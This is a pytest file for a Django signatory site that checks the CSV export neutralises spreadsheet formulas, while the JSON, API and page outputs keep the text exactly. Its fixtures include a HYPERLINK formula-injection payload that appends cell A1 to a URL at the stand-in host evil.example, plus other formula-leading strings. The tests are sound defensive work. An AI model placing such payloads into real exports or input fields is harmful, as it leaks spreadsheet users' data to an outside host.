"""The CSV download never hands a spreadsheet a formula; JSON and pages keep the text exactly."""

import csv
import html
import io

import pytest
from django.urls import reverse

from public.csvcells import spreadsheet_text
from signatories.models import ListEntry, Signatory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
# What a curated name or a printed list line may begin with, and still be read as a formula.
FORMULA_TEXTS = [
    "+33 Human Rights League",
    "-Rights Watch",
    "@Monitor",
    "\tTabbed Group",
    "\rReturned Group",
    '\uff1dHYPERLINK("http://evil.example")',  # full-width =
    "\uff20SUM(A1:A9)",  # full-width @
    "  =1+1",
]


def csv_rows(client) -> list[dict]:
    text = client.get(reverse("signatories:csv")).content.decode("utf-8").lstrip("\ufeff")
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("text", [HYPERLINK, *FORMULA_TEXTS])
def test_text_a_spreadsheet_would_evaluate_gets_a_leading_quote(text):
    assert spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Amnesty International", "日本ウイグル協会", "a=b", "Rights-Watch", "", 19, -2.5]
)
def test_ordinary_text_and_numbers_are_left_as_they_are(value):
    assert spreadsheet_text(value) == value


def test_a_curated_formula_name_reaches_the_csv_as_text(client, seeded):
    signatory = Signatory.objects.order_by("pk").first()
    signatory.curated_name = HYPERLINK
    signatory.save(update_fields=["curated_name"])

    rows = [r for r in csv_rows(client) if r["signatory_slug"] == signatory.slug]

    assert rows
    assert {r["signatory_name"] for r in rows} == {"'" + HYPERLINK}


def test_printed_lines_that_start_like_a_formula_reach_the_csv_as_text(client, seeded):
    entries = list(ListEntry.objects.order_by("pk")[: len(FORMULA_TEXTS)])
    for entry, text in zip(entries, FORMULA_TEXTS, strict=True):
        ListEntry.objects.filter(pk=entry.pk).update(text=text)

    rows = {(r["source_slug"], r["ordinal"]): r for r in csv_rows(client)}

    for entry, text in zip(entries, FORMULA_TEXTS, strict=True):
        cell = rows[entry.source.slug, str(entry.ordinal)]["text"]
        assert cell == "'" + text, (text, cell)


def test_json_and_the_page_keep_the_exact_text(client, seeded):
    signatory = Signatory.objects.order_by("pk").first()
    signatory.curated_name = HYPERLINK
    signatory.save(update_fields=["curated_name"])

    data = client.get(reverse("signatories:json")).json()
    api = client.get(reverse("api:signatory", args=[signatory.slug])).json()
    page = client.get(signatory.get_absolute_url()).content.decode()

    assert HYPERLINK in {s["name"] for s in data["signatories"]}
    assert api["name"] == HYPERLINK
    assert html.escape(HYPERLINK) in page
